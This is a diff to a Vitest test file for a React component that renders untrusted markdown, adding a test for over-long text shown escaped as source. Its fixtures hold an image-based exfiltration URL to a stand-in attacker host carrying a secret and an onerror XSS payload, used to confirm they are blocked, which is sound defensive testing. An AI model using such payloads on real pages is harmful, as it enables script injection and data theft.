@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { renderToStaticMarkup } from "react-dom/server";
-import { UntrustedMarkdown } from "./untrusted-markdown";
+import { MAX_FORMATTED_CHARS, UntrustedMarkdown } from "./untrusted-markdown";
 
 const render = (text: string) => renderToStaticMarkup(<UntrustedMarkdown text={text} />);
 
@@ -32,5 +32,18 @@ describe("UntrustedMarkdown", () => {
     const html = render("![chart](https://attacker.example/log?secret=123)");
     expect(html).not.toContain("<img");
     expect(html).toContain("[image: chart — https://attacker.example/log?secret=123 (not loaded)]");
+  });
+
+  it("shows a text too long to format as its source text, escaped, with its length", () => {
+    const line = '**bold** <img src=x onerror="alert(1)"> ![t](https://attacker.example/x.png)\n';
+    const text = line.repeat(Math.ceil((MAX_FORMATTED_CHARS + 1) / line.length));
+    const html = render(text);
+    expect(html).toContain("<pre");
+    expect(html).not.toContain("<strong>");
+    expect(html).not.toMatch(/<img|image-placeholder/);
+    expect(html).toContain("**bold** &lt;img src=x onerror=");
+    expect(html).toContain(`${text.length.toLocaleString("en")} characters: shown as source text`);
+    // At the limit it is still formatted.
+    expect(render(`**bold** ${"x".repeat(MAX_FORMATTED_CHARS - 9)}`)).toContain("<strong>bold</strong>");
   });
 });
